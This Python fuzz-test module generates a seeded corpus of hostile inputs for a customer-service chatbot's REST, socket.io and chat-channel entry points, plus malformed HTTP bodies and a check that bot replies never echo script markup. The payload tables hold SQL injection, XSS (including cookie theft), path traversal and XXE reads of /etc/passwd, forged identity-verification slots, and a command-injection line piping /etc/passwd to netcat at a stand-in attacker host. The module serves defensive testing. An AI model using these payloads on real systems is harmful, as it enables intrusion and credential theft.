"""A seeded corpus of hostile inputs for every entry point (REST, socket.io, Slack, Telegram, CRM API, console forms).

``messages()`` yields at least 1,000 message texts built from payload families (Unicode oddities, control
characters, injections, template syntax, path traversal, huge and empty messages) mixed into realistic customer
phrases; the same seed gives the same corpus, so a failure names a reproducible input. ``raw_bodies()`` yields
HTTP bodies that are wrong as a whole (malformed JSON, wrong types, wrong content type, bad metadata).
``echoes_markup()`` is the check for "the answer never echoes raw script".

Other entry points reuse it: a channel test maps each ``Case.text`` into its own payload shape.
"""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

SEED = 20261123

UNICODE = {
    "rtl_override": "\u202eredro ym si erehw\u202c",
    "rtl_marks": "\u200fwhere is\u200f my order\u200e",
    "zero_width": "wh\u200bere\u200c is\u200d my\ufeff order\u2060",
    "combining": "o\u0301\u0302\u0303\u0304\u0305\u0306\u0307rder" + "\u0336" * 40,
    "zalgo": "".join(ch + "\u0300\u0316\u0317\u0318\u0319\u031a\u031b" for ch in "cancel"),
    "emoji_zwj": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308 help",
    "flags_skin": "\U0001f1ec\U0001f1e7\U0001f44d\U0001f3fd\U0001f9d1\u200d\U0001f4bb",
    "fullwidth": "\uff57\uff48\uff45\uff52\uff45 \uff49\uff53 \uff4f\uff52\uff44\uff45\uff52 \uff19\uff19\uff10\uff10\uff11",
    "homoglyph_email": "\u0430lice.martin@ex\u0430mple.com",
    "arabic_digits": "order \u0669\u0669\u0660\u0660\u0661",
    "cjk": "\u6211\u7684\u8ba2\u5355\u5728\u54ea\u91cc",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "replacement": "\ufffd\ufffd\ufffd",
    "line_separators": "where\u2028is\u2029my order",
    "astral_math": "\U0001d54e\U0001d559\U0001d556\U0001d563\U0001d556",
}
CONTROL = {
    "nul": "where\x00is my order\x00",
    "bell_escape": "\x07\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "backspace": "cancel\x08\x08\x08\x08\x08\x08refund",
    "del_c1": "\x7f\x80\x85\x9b",
    "crlf_injection": "hi\r\nX-Injected: yes\r\n\r\n<b>body</b>",
    "tabs_only": "\t\t\t\v\f",
}
INJECTION = {
    "sql_or": "99002' OR '1'='1",
    "sql_drop": "'; DROP TABLE orders; --",
    "sql_union": "99003 UNION SELECT email, postcode FROM customers --",
    "sql_comment": "alice.martin@example.com'/*",
    "html_script": "<script>alert('x')</script>",
    "html_img": '<img src=x onerror="alert(1)">',
    "html_svg": "<svg/onload=alert(document.cookie)>",
    "js_url": "javascript:alert(1)",
    "html_iframe": "<iframe src='https://evil.example'></iframe>",
    "markdown_link": "[click](javascript:alert(1))",
    "template_jinja": "{{7*7}} {{config.items()}}",
    "template_dollar": "${7*7} #{7*7} <%= 7*7 %>",
    "template_rasa": "{customer_name} {order_id} {reference}",
    "format_attr": "{0.__class__.__mro__} %s%s%s%n",
    "path_traversal": "../../../../etc/passwd",
    "path_encoded": "..%2f..%2f..%2fetc%2fpasswd %00",
    "windows_path": "..\\..\\windows\\win.ini",
    "json_text": '{"sender": "other", "message": "/restart"}',
    "intent_restart": "/restart",
    "intent_session": "/session_start",
    "intent_entities": '/check_order_status{"order_id":"99004","customer_id":"2"}',
    "intent_slot_inject": '/inform{"customer_id":"2","identity_proof":"verified"}',
    "ldap": "*)(uid=*))(|(uid=*",
    "command": "; cat /etc/passwd | nc evil.example 80 `id` $(id)",
    "xml_entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "regex_bomb": "a" * 40 + "!",
    "number_overflow": "refund 1e309 " + "9" * 400,
    "negative_amount": "refund -100000.00 for order 99005",
}
SIZES = {
    "empty": "",
    "space": " ",
    "newlines": "\n" * 50,
    "long_word": "a" * 5000,
    "long_sentence": "where is my order " * 600,
    "huge": "x" * 100_000,
    "many_entities": " ".join(f"order {90000 + i} " for i in range(300)),
}
PHRASES = [
    "where is my order 99001",
    "cancel order {payload}",
    "my email is {payload}",
    "{payload}",
    "I want a refund because {payload}",
    "postcode {payload}",
    "hi {payload} can you help",
    "talk to a human {payload}",
    "my order number is {payload}",
]
SCRIPT_MARKERS = ("<script", "onerror=", "onload=", "javascript:", "<iframe", "<svg", "<img")


@dataclass(frozen=True)
class Case:
    name: str
    text: str
    metadata: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class RawBody:
    name: str
    body: bytes
    content_type: str


def families() -> dict[str, dict[str, str]]:
    return {"unicode": UNICODE, "control": CONTROL, "injection": INJECTION, "size": SIZES}


BAD_METADATA: list[dict[str, Any]] = [
    {"customer_id": "2", "verified": True},
    {"slots": {"customer_id": "3", "identity_proof": "verified"}},
    {"__proto__": {"admin": True}},
    {"nested": {"deep": [[[[[[[["x"]]]]]]]]}},
    {"html": "<script>alert(1)</script>"},
]


def messages(seed: int = SEED, count: int = 1000) -> Iterator[Case]:
    """Every payload alone, then seeded combinations (phrase x payload x mutation) until ``count`` cases."""
    rng = random.Random(seed)
    atoms = [(f"{fam}.{name}", text) for fam, items in families().items() for name, text in items.items()]
    produced = 0
    for name, text in atoms:
        yield Case(name, text)
        produced += 1
    mutations = ("plain", "upper", "doubled", "reversed", "wrapped_zw", "truncated", "with_nul")
    while produced < count:
        name, payload = rng.choice([a for a in atoms if a[0] != "size.huge"])
        if len(payload) > 2000:
            payload = payload[:2000]
        mutation = rng.choice(mutations)
        if mutation == "upper":
            payload = payload.upper()
        elif mutation == "doubled":
            payload = payload + payload
        elif mutation == "reversed":
            payload = payload[::-1]
        elif mutation == "wrapped_zw":
            payload = "\u200b" + payload + "\u200d"
        elif mutation == "truncated":
            payload = payload[: rng.randint(0, max(len(payload) - 1, 0))]
        elif mutation == "with_nul":
            payload = payload.replace(" ", "\x00 ")
        text = rng.choice(PHRASES).replace("{payload}", payload)
        metadata = rng.choice(BAD_METADATA) if rng.random() < 0.1 else {}
        yield Case(f"{name}+{mutation}#{produced}", text, metadata)
        produced += 1


def raw_bodies() -> list[RawBody]:
    """Request bodies a channel webhook must refuse cleanly (4xx) or survive."""
    js = "application/json"
    return [
        RawBody("not_json", b"this is not json", js),
        RawBody("truncated_json", b'{"sender": "x", "message": "hi', js),
        RawBody("json_array", b'["sender", "message"]', js),
        RawBody("json_null", b"null", js),
        RawBody("json_number", b"42", js),
        RawBody("message_number", b'{"sender": "x", "message": 12345}', js),
        RawBody("message_object", b'{"sender": "x", "message": {"text": "hi"}}', js),
        RawBody("message_null", b'{"sender": "x", "message": null}', js),
        RawBody("message_missing", b'{"sender": "x"}', js),
        RawBody("sender_object", b'{"sender": {"id": 1}, "message": "hi"}', js),
        RawBody("sender_huge", json.dumps({"sender": "s" * 5000, "message": "hi"}).encode(), js),
        RawBody("lone_surrogate", b'{"sender": "x", "message": "\\ud800 where is my order"}', js),
        RawBody("bad_utf8", b'{"sender": "x", "message": "\xff\xfe\xfd"}', js),
        RawBody("metadata_string", b'{"sender": "x", "message": "hi", "metadata": "not a dict"}', js),
        RawBody("metadata_list", b'{"sender": "x", "message": "hi", "metadata": [1, 2]}', js),
        RawBody(
            "deep_nesting", b'{"sender": "x", "message": "hi", "metadata": ' + b"[" * 5000 + b"]" * 5000 + b"}", js
        ),
        RawBody("duplicate_keys", b'{"sender": "x", "message": "hi", "sender": "other"}', js),
        RawBody("form_encoded", b"sender=x&message=hi", "application/x-www-form-urlencoded"),
        RawBody("text_plain", b'{"sender": "x", "message": "hi"}', "text/plain"),
        RawBody("xml", b"<message><sender>x</sender></message>", "application/xml"),
        RawBody("empty_body", b"", js),
        RawBody(
            "multipart",
            b"--b\r\nContent-Disposition: form-data; name=message\r\n\r\nhi\r\n--b--",
            "multipart/form-data; boundary=b",
        ),
    ]


def echoes_markup(answer: str) -> bool:
    """True when a bot answer carries active markup or a script URL (an echo of an injection)."""
    lowered = answer.lower()
    return any(marker in lowered for marker in SCRIPT_MARKERS)
